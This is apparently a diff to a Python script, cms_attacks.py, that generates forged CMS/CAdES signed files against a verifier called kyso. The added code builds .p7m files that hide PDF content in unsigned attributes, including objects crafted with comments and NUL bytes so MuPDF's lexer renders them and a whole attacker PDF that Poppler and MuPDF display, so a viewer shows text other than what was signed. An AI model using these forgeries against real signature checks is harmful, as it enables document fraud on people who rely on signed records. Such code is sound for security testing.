@@ -7,7 +7,11 @@ attacker's reading of kyso's verifier, 2026-12-02):
                                               incremental update of that PDF appended (offsets
                                               from its %PDF- header), replacing the page's text:
                                               a PDF reader shows the update; DIR/forged-attr.p7m:
-                                              the update inside an unsigned attribute instead
+                                              the update inside an unsigned attribute instead;
+                                              DIR/forged-lexer.p7m: its objects alone there, with
+                                              a comment and NULs in their headers (MuPDF shows
+                                              them); DIR/text-pdf-attr.p7m: a signed text with a
+                                              whole PDF in an unsigned attribute
     python3 cms_attacks.py pss DIR            DIR/pss-1024.p7m and pss-2048.p7m: OpenSSL CAdES by
                                               RSA-PSS keys (id-RSASSA-PSS) of those sizes
     python3 cms_attacks.py names DIR          under DIR/sub.pem, which excludes the subtree
@@ -159,6 +163,29 @@ if mode == 'trailing':
     at = draft.rindex(update(0))
     assert at + len(update(0)) == len(draft), 'the attribute ends the file'
     open(os.path.join(d, 'forged-attr.p7m'), 'wb').write(draft[:at] + update(at))
+    # The update's objects alone, their headers written as MuPDF's lexer still reads them (a
+    # comment, NUL for white space): MuPDF repairs the file and shows them, with no
+    # cross-reference keyword anywhere.
+    objects = (b'\n3 0 %c\nobj\n<< /Type /Page /Parent 1 0 R /Contents ' + b'%d' % size
+               + b' 0 R /Resources << /Font << /FX << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>'
+               + b'\nendobj\n' + b'%d\x000\x00obj\n<< /Length %d >>\nstream\n' % (size, len(text)) + text
+               + b'\nendstream\nendobj\n')
+    open(os.path.join(d, 'forged-lexer.p7m'), 'wb').write(with_attr(objects))
+    # A signed text, and a whole PDF of the attacker's in an unsigned attribute: Poppler and
+    # MuPDF find its header and show it.
+    cms_sign(d, c, k, 'Công văn số 12: đồng ý cấp phép\n'.encode(), 'text.p7m')
+    signed = open(os.path.join(d, 'text.p7m'), 'rb').read()
+    body = b'%PDF-1.4\n'
+    for i, o in enumerate([
+        b'<< /Type /Catalog /Pages 2 0 R >>',
+        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << '
+        b'/F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>',
+        b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream',
+    ], 1):
+        body += b'%d 0 obj\n' % i + o + b'\nendobj\n'
+    body += b'trailer\n<< /Size 5 /Root 1 0 R >>\n'
+    open(os.path.join(d, 'text-pdf-attr.p7m'), 'wb').write(with_attr(body))
 elif mode == 'pss':
     d = sys.argv[2]
     os.makedirs(d, exist_ok=True)
